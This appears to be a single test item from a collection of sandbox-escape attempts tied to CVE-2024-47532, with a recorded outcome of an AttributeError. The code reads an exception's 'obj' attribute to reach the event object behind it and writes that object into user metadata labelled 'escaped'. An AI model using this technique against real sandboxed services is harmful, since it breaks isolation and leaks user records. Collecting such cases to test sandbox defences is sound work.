# origin: CVE-2024-47532
# technique: the event's own error carries the record behind it
# goal: language
# outcome: RAISED:AttributeError

def on_execute_post_login(event, api):
    try:
        event.nope
    except AttributeError as error:
        api.user.set_app_metadata("escaped", str(getattr(error, "obj")))
